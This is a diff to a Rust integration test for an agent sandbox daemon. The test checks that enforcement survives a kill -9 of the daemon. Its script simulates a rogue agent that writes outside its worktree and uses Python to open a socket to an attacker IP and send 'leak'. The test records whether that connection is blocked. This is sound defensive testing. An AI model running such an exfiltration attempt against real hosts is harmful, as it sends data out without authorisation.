@@ -447,14 +447,16 @@ fn kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement() {
     let outside = scene.root.join("outside");
     std::fs::create_dir_all(&outside).unwrap();
     let result = scene.root.join("result");
-    // The agent waits out the crash, then writes outside its worktree and tries to leak.
+    // The agent waits out the crash, then writes outside its worktree and tries to leak. The
+    // result is renamed into place: the test reads it as soon as it exists.
     let started = scene.root.join("started");
     let script = format!(
-        "touch {started}; sleep 2; echo x > {out}/while-down; /usr/bin/python3 -c \"import socket\n\
+        "touch {started}; sleep 2; echo x > {out}/while-down; /usr/bin/python3 -c \"import os, socket\n\
          try:\n\
          \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'leak'); r = 'sent'\n\
          except OSError as e: r = 'blocked'\n\
-         open('{result}', 'w').write(r)\"; sleep 2",
+         open('{result}.tmp', 'w').write(r)\n\
+         os.rename('{result}.tmp', '{result}')\"; sleep 2",
         started = s(&started),
         out = s(&outside),
         ip = attacker.remote_ip,
